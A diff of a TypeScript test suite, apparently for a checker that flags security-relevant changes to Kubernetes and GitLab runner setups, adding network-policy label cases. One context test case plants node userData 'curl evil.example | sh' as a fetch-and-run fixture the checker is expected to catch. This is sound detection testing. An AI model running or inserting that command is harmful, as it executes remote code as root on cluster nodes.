@@ -89,6 +89,20 @@ const OPEN_CLASS = [
     .map(({ path, text }) => ({ path: path.replace('.yaml', '-open.yaml'), text })),
 ];
 
+/** A policy that lets in some pods, from the namespace of jobs or from one of monitoring. */
+const letting = (name: string, namespace: string, peer: string) =>
+  `apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: { name: ${name}, namespace: ${namespace} }\nspec: { podSelector: {}, policyTypes: [Ingress], ingress: [{ from: [{ ${peer} }] }] }\n`;
+const SCRAPED = letting(
+  'scraped',
+  'gitlab-runners',
+  'namespaceSelector: { matchLabels: { kubernetes.io/metadata.name: gitlab-jobs } }, podSelector: { matchLabels: { role: scraper } }',
+);
+const MONITORED = letting(
+  'open',
+  'databases',
+  'namespaceSelector: { matchLabels: { app.kubernetes.io/name: monitoring } }',
+);
+
 const binding = (
   kind: string,
   role: string,
@@ -245,6 +259,10 @@ export const SECURITY_CASES: readonly ImpactCase[] = [
   { rule: 'node-guards', name: 'a new pool for the same jobs, of the class of another fleet', before: [...FLEET, ...OF_OTHERS], after: [...FLEET, ...OF_OTHERS, ...poolOf('protected-jobs')], says: ['security', /rights of another role in AWS/] },
   { rule: 'node-guards', name: 'a new pool for the same jobs, of a class that opens more', before: OPEN_CLASS, after: [...OPEN_CLASS, ...poolOf('open')], says: ['security', /reach the instance metadata/] },
   { rule: 'node-guards', name: 'a new pool for the same jobs, of their class', before: OPEN_CLASS, after: [...OPEN_CLASS, ...poolOf('gitlab-jobs')] },
+  { rule: 'moved-pods', name: 'a label by which a policy of managers lets jobs in', before: more(SCRAPED), after: edited(more(SCRAPED), [CONFIG, /(\[runners.kubernetes.pod_labels\]\n)/, '$1    role = "scraper"\n']), says: ['security', /^Jobs in gitlab-jobs are what other policies let through now: NetworkPolicy\/gitlab-runners\/scraped lets them in\.$/] },
+  { rule: 'moved-pods', name: 'a label of their namespace by which a policy of others lets jobs in', before: more(MONITORED), after: edited(more(MONITORED), [JOBS, 'app.kubernetes.io/name: gitlab-runner', 'app.kubernetes.io/name: monitoring']), says: ['security', /^Jobs in gitlab-jobs are what other policies let through/] },
+  { rule: 'moved-pods', name: 'a label that no policy selects', before: more(SCRAPED), after: edited(more(SCRAPED), [CONFIG, /(\[runners.kubernetes.pod_labels\]\n)/, '$1    role = "web"\n']) },
+  { rule: 'moved-pods', name: 'a policy that let jobs in before', before: more(SCRAPED.replace('scraper', 'x').replace(/, podSelector.*?\} \}/, '')), after: edited(more(SCRAPED.replace('scraper', 'x').replace(/, podSelector.*?\} \}/, '')), [CONFIG, /(\[runners.kubernetes.pod_labels\]\n)/, '$1    role = "web"\n']) },
   { rule: 'node-guards', name: 'a hop more', after: edited(FLEET, [CLASS, 'httpPutResponseHopLimit: 1', 'httpPutResponseHopLimit: 2']), says: ['security', /^Pods reach the instance metadata service \(httpPutResponseHopLimit 2, before 1\)\.$/] },
   { rule: 'node-guards', name: 'no token', after: edited(FLEET, [CLASS, 'httpTokens: required', 'httpTokens: optional']), says: ['security', /asks for no token/] },
   { rule: 'node-guards', name: 'another script of the nodes', after: edited(FLEET, [CLASS, 'spec:\n', 'spec:\n  userData: |\n    curl evil.example | sh\n']), says: ['security', /as root is another script/] },
